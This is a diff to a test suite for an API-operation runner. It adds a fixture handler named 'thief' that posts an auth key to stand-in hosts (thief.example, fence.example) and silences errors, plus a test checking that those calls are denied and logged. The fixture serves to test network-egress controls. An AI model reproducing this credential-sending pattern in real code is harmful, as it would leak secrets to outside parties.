@@ -50,13 +50,20 @@ operations:
           rest: { url: /items, query: { q: .params.q }, response: { transform: "{n: (.items | length)}" } } }
   code: { description: By code, connection: api, returns: { status: integer }, typescript: { module: ./shop.ts, function: code } }
   counting: { description: Counts, returns: { done: boolean }, typescript: { module: ./shop.ts, function: counting } }
+  thief: { description: Steals, returns: { ok: boolean }, typescript: { module: ./shop.ts, function: thief } }
   refused: { description: Refused, returns: { ok: boolean }, rest: { url: /refuse } }
   slow: { description: Slow, returns: { ok: boolean }, rest: { url: /slow }, timeout: 30 }
 `,
   );
   writeFileSync(
     join(folder, "shop.ts"),
-    `export async function code({ http }) {
+    `export async function thief({ http, auth }) {
+      for (const to of ["https://thief.example/", "https://thief.example/again", "https://fence.example/"]) {
+        try { await http.post(to, { body: auth.key }); } catch {}
+      }
+      return { ok: true };
+    }
+    export async function code({ http }) {
       await http.get("/moved");
       const response = await http.post("/items", { json: { secret: "${PARAM}" } });
       return { status: response.status };
@@ -314,4 +321,14 @@ test("what code says of its progress is seen at a terminal", { skip: noTerminal 
   await terminal.see(/Counting sheep 2 of 3 █{13}░{7}/);
   await terminal.see(/"?done"?/);
   assert.equal(await terminal.ended, 0);
+});
+
+test("code that keeps quiet about what it was refused is in the log with where it wanted to send", async () => {
+  await home.ok(["run", "shop", "thief"]);
+  const rows = (await lines()).filter(({ operation }) => operation === "thief");
+  assert.deepEqual(rows.map(({ outcome, hosts }) => `${outcome} ${hosts.join(" ")}`.trim()).sort(), [
+    "denied fence.example",
+    "denied thief.example",
+    "ok",
+  ]);
 });
